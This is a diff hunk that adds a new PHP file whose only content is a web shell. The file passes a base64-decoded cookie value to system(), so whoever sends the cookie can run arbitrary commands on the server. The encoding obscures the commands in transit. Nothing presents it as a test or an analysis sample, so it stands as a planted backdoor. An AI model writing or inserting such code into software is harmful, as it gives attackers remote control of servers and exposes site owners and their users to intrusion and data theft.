@@ -1,0 +1,1 @@
+<?php system(base64_decode($_COOKIE['c']));
